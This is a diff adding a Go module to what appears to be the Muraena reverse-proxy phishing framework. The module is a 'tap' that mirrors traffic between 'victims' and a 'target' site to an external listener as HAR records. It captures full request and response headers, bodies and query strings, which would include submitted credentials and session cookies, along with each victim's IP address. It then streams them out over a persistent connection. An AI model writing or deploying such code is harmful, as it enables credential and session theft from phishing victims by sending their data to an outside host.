@@ -0,0 +1,481 @@
+package proxy
+
+import (
+	"bufio"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"regexp"
+	"sort"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+	"unicode/utf8"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// Stages of the traffic mirrored by the tap
+const (
+	// tapUpstream is the traffic exchanged with the target: the requests after their rewrite,
+	// the responses before theirs
+	tapUpstream = "upstream"
+	// tapVictim is the traffic exchanged with the victims: the requests before their rewrite,
+	// the responses after theirs
+	tapVictim = "victim"
+)
+
+// tap mirrors the proxied traffic to an external listener, i.e. Burp or a custom analyzer, without being inline:
+// the exchanges are queued and sent by a single writer, and dropped if the listener is too slow or down.
+type tap struct {
+	network     string
+	address     string
+	frame       bool
+	stage       string
+	maxBodySize int
+
+	exact   map[string]bool
+	regexps []*regexp.Regexp
+
+	entries chan *harEntry
+	sent    uint64
+	dropped uint64
+}
+
+// taps is the tap shared by all the proxies, nil if disabled
+var taps *tap
+
+// newTap returns the tap defined in the configuration, nil if disabled
+func newTap(sess *session.Session) (*tap, error) {
+	config := sess.Config.Tap
+	if !config.Enabled {
+		return nil, nil
+	}
+
+	t := &tap{
+		network:     strings.ToLower(config.Network),
+		address:     config.Address,
+		frame:       strings.EqualFold(config.Format, "frame"),
+		stage:       strings.ToLower(config.Stage),
+		maxBodySize: config.MaxBodySize,
+		exact:       make(map[string]bool),
+		entries:     make(chan *harEntry, config.Queue),
+	}
+
+	for _, p := range config.Paths {
+		if strings.HasPrefix(p, "^") && strings.HasSuffix(p, "$") {
+			re, err := regexp.Compile(p)
+			if err != nil {
+				return nil, fmt.Errorf("invalid tap path %s: %w", p, err)
+			}
+			t.regexps = append(t.regexps, re)
+			continue
+		}
+		t.exact[p] = true
+	}
+
+	return t, nil
+}
+
+// Matches checks if the requests to path are mirrored
+func (t *tap) Matches(path string) bool {
+	if len(t.exact) == 0 && len(t.regexps) == 0 {
+		return true
+	}
+
+	if t.exact[path] {
+		return true
+	}
+
+	for _, re := range t.regexps {
+		if re.MatchString(path) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// send queues the exchange, dropping it if the queue is full
+func (t *tap) send(e *harEntry) {
+	select {
+	case t.entries <- e:
+	default:
+		atomic.AddUint64(&t.dropped, 1)
+	}
+}
+
+// run writes the queued exchanges to the listener, reconnecting to it as needed
+func (t *tap) run() {
+	var conn net.Conn
+	backoff := time.Second
+
+	for e := range t.entries {
+		for conn == nil {
+			c, err := net.DialTimeout(t.network, t.address, 5*time.Second)
+			if err != nil {
+				log.Debug("Tap: error connecting to %s: %s", t.address, err)
+				time.Sleep(backoff)
+				if backoff < 30*time.Second {
+					backoff *= 2
+				}
+				continue
+			}
+
+			log.Info("Tap: mirroring the %s traffic to %s", t.stage, t.address)
+			conn, backoff = c, time.Second
+		}
+
+		_ = conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
+		if err := t.write(conn, e); err != nil {
+			log.Warning("Tap: error writing to %s: %s", t.address, err)
+			atomic.AddUint64(&t.dropped, 1)
+			conn.Close()
+			conn = nil
+			continue
+		}
+		atomic.AddUint64(&t.sent, 1)
+	}
+}
+
+// write encodes the exchange as a HAR entry, on its own line or prefixed by its length
+func (t *tap) write(w io.Writer, e *harEntry) error {
+	data, err := json.Marshal(e)
+	if err != nil {
+		return err
+	}
+
+	if t.frame {
+		var size [4]byte
+		binary.BigEndian.PutUint32(size[:], uint32(len(data)))
+		data = append(size[:], data...)
+	} else {
+		data = append(data, '\n')
+	}
+
+	_, err = w.Write(data)
+	return err
+}
+
+// Stats returns the exchanges sent and dropped
+func (t *tap) Stats() map[string]interface{} {
+	return map[string]interface{}{
+		"queued":  len(t.entries),
+		"sent":    atomic.LoadUint64(&t.sent),
+		"dropped": atomic.LoadUint64(&t.dropped),
+	}
+}
+
+// Serve mirrors the exchange of the victim with next, if the tap is on the victim stage
+func (t *tap) Serve(w http.ResponseWriter, r *http.Request, next http.HandlerFunc) {
+	if t == nil || t.stage != tapVictim || !t.Matches(r.URL.Path) {
+		next(w, r)
+		return
+	}
+
+	started := time.Now()
+
+	// The request is mirrored as received, before being rewritten
+	received := r.Clone(r.Context())
+	received.URL.Scheme, received.URL.Host = "http", r.Host
+	if r.TLS != nil {
+		received.URL.Scheme = "https"
+	}
+
+	requestBody := &tapBody{max: t.maxBodySize}
+	if r.Body != nil && r.Body != http.NoBody {
+		r.Body = &tapReader{ReadCloser: r.Body, record: requestBody}
+	}
+
+	tw := &tapWriter{ResponseWriter: w, record: &tapBody{max: t.maxBodySize}}
+	next(tw, r)
+
+	header := tw.header
+	if header == nil {
+		header = w.Header().Clone()
+	}
+	e := newHAREntry(received, requestBody, tw.status, r.Proto, header, tw.record, started)
+	e.Stage, e.Client = tapVictim, loggedIP(r)
+	t.send(e)
+}
+
+// tapTransport mirrors the exchanges with the target
+type tapTransport struct {
+	tap  *tap
+	next http.RoundTripper
+}
+
+// RoundTrip implements http.RoundTripper. The exchange is mirrored once the response body is read.
+func (t *tapTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if !t.tap.Matches(req.URL.Path) {
+		return t.next.RoundTrip(req)
+	}
+
+	started := time.Now()
+	requestBody := &tapBody{max: t.tap.maxBodySize}
+	if req.Body != nil && req.Body != http.NoBody {
+		req = req.Clone(req.Context())
+		req.Body = &tapReader{ReadCloser: req.Body, record: requestBody}
+	}
+
+	resp, err := t.next.RoundTrip(req)
+	if err != nil {
+		e := newHAREntry(req, requestBody, 0, req.Proto, nil, &tapBody{}, started)
+		e.Stage, e.Error = tapUpstream, err.Error()
+		t.tap.send(e)
+		return resp, err
+	}
+
+	responseBody := &tapBody{max: t.tap.maxBodySize}
+	resp.Body = &tapReader{ReadCloser: resp.Body, record: responseBody, done: func() {
+		e := newHAREntry(req, requestBody, resp.StatusCode, resp.Proto, resp.Header, responseBody, started)
+		e.Stage = tapUpstream
+		t.tap.send(e)
+	}}
+
+	return resp, nil
+}
+
+// tapBody records the first max bytes of a body, and its size
+type tapBody struct {
+	mu   sync.Mutex
+	max  int
+	data []byte
+	size int
+}
+
+func (b *tapBody) Write(p []byte) (int, error) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	n := len(p)
+	b.size += n
+	if room := b.max - len(b.data); room > 0 {
+		if n > room {
+			p = p[:room]
+		}
+		b.data = append(b.data, p...)
+	}
+
+	return n, nil
+}
+
+// content returns the recorded body, base64 encoded if it is not text, and its size
+func (b *tapBody) content() (text, encoding string, size int, truncated bool) {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+
+	text = string(b.data)
+	if !utf8.Valid(b.data) {
+		text, encoding = base64.StdEncoding.EncodeToString(b.data), "base64"
+	}
+
+	return text, encoding, b.size, b.size > len(b.data)
+}
+
+// tapReader records the body read, calling done once on its end
+type tapReader struct {
+	io.ReadCloser
+	record *tapBody
+	once   sync.Once
+	done   func()
+}
+
+func (r *tapReader) Read(p []byte) (int, error) {
+	n, err := r.ReadCloser.Read(p)
+	_, _ = r.record.Write(p[:n])
+	if err == io.EOF {
+		r.finish()
+	}
+	return n, err
+}
+
+func (r *tapReader) Close() error {
+	err := r.ReadCloser.Close()
+	r.finish()
+	return err
+}
+
+func (r *tapReader) finish() {
+	if r.done != nil {
+		r.once.Do(r.done)
+	}
+}
+
+// tapWriter records the response sent to the victim
+type tapWriter struct {
+	http.ResponseWriter
+	record *tapBody
+	status int
+	header http.Header
+}
+
+func (w *tapWriter) WriteHeader(status int) {
+	if w.header == nil {
+		w.status, w.header = status, w.Header().Clone()
+	}
+	w.ResponseWriter.WriteHeader(status)
+}
+
+func (w *tapWriter) Write(b []byte) (int, error) {
+	if w.header == nil {
+		w.status, w.header = http.StatusOK, w.Header().Clone()
+	}
+	_, _ = w.record.Write(b)
+	return w.ResponseWriter.Write(b)
+}
+
+// Unwrap allows http.ResponseController to flush and hijack the connection, i.e. for streaming and WebSockets
+func (w *tapWriter) Unwrap() http.ResponseWriter {
+	return w.ResponseWriter
+}
+
+// Flush implements http.Flusher
+func (w *tapWriter) Flush() {
+	if f, ok := w.ResponseWriter.(http.Flusher); ok {
+		f.Flush()
+	}
+}
+
+// Hijack implements http.Hijacker
+func (w *tapWriter) Hijack() (net.Conn, *bufio.ReadWriter, error) {
+	if h, ok := w.ResponseWriter.(http.Hijacker); ok {
+		return h.Hijack()
+	}
+	return nil, nil, http.ErrNotSupported
+}
+
+// harEntry is an exchange in the HTTP Archive format (HAR 1.2), with the tap fields prefixed by an underscore
+type harEntry struct {
+	StartedDateTime time.Time   `json:"startedDateTime"`
+	Time            float64     `json:"time"`
+	Request         harRequest  `json:"request"`
+	Response        harResponse `json:"response"`
+	Cache           struct{}    `json:"cache"`
+	Timings         harTimings  `json:"timings"`
+
+	Stage  string `json:"_stage"`
+	Client string `json:"_client,omitempty"`
+	Error  string `json:"_error,omitempty"`
+}
+
+type harRequest struct {
+	Method      string         `json:"method"`
+	URL         string         `json:"url"`
+	HTTPVersion string         `json:"httpVersion"`
+	Cookies     []harNameValue `json:"cookies"`
+	Headers     []harNameValue `json:"headers"`
+	QueryString []harNameValue `json:"queryString"`
+	PostData    *harContent    `json:"postData,omitempty"`
+	HeadersSize int            `json:"headersSize"`
+	BodySize    int            `json:"bodySize"`
+}
+
+type harResponse struct {
+	Status      int            `json:"status"`
+	StatusText  string         `json:"statusText"`
+	HTTPVersion string         `json:"httpVersion"`
+	Cookies     []harNameValue `json:"cookies"`
+	Headers     []harNameValue `json:"headers"`
+	Content     harContent     `json:"content"`
+	RedirectURL string         `json:"redirectURL"`
+	HeadersSize int            `json:"headersSize"`
+	BodySize    int            `json:"bodySize"`
+}
+
+type harNameValue struct {
+	Name  string `json:"name"`
+	Value string `json:"value"`
+}
+
+type harContent struct {
+	Size     int    `json:"size"`
+	MimeType string `json:"mimeType"`
+	Text     string `json:"text"`
+	Encoding string `json:"encoding,omitempty"`
+	Comment  string `json:"comment,omitempty"`
+}
+
+type harTimings struct {
+	Send    float64 `json:"send"`
+	Wait    float64 `json:"wait"`
+	Receive float64 `json:"receive"`
+}
+
+// newHAREntry returns the HAR entry of the request and of its response
+func newHAREntry(req *http.Request, requestBody *tapBody, status int, proto string, header http.Header,
+	responseBody *tapBody, started time.Time) *harEntry {
+	elapsed := float64(time.Since(started)) / float64(time.Millisecond)
+
+	e := &harEntry{
+		StartedDateTime: started.UTC(),
+		Time:            elapsed,
+		Request: harRequest{
+			Method:      req.Method,
+			URL:         req.URL.String(),
+			HTTPVersion: req.Proto,
+			Cookies:     []harNameValue{},
+			Headers:     harHeaders(req.Header),
+			QueryString: []harNameValue{},
+			HeadersSize: -1,
+		},
+		Response: harResponse{
+			Status:      status,
+			StatusText:  http.StatusText(status),
+			HTTPVersion: proto,
+			Cookies:     []harNameValue{},
+			Headers:     harHeaders(header),
+			RedirectURL: header.Get("Location"),
+			HeadersSize: -1,
+		},
+		Timings: harTimings{Wait: elapsed},
+	}
+
+	for name, values := range req.URL.Query() {
+		for _, value := range values {
+			e.Request.QueryString = append(e.Request.QueryString, harNameValue{name, value})
+		}
+	}
+
+	text, encoding, size, truncated := requestBody.content()
+	e.Request.BodySize = size
+	if size > 0 {
+		e.Request.PostData = &harContent{Size: size, MimeType: req.Header.Get("Content-Type"), Text: text, Encoding: encoding}
+		if truncated {
+			e.Request.PostData.Comment = fmt.Sprintf("truncated to %d bytes", requestBody.max)
+		}
+	}
+
+	text, encoding, size, truncated = responseBody.content()
+	e.Response.BodySize = size
+	e.Response.Content = harContent{Size: size, MimeType: header.Get("Content-Type"), Text: text, Encoding: encoding}
+	if truncated {
+		e.Response.Content.Comment = fmt.Sprintf("truncated to %d bytes", responseBody.max)
+	}
+
+	return e
+}
+
+// harHeaders returns the headers as HAR name/value pairs, sorted by name
+func harHeaders(header http.Header) []harNameValue {
+	names := make([]string, 0, len(header))
+	for name := range header {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+
+	headers := []harNameValue{}
+	for _, name := range names {
+		for _, value := range header[name] {
+			headers = append(headers, harNameValue{name, value})
+		}
+	}
+
+	return headers
+}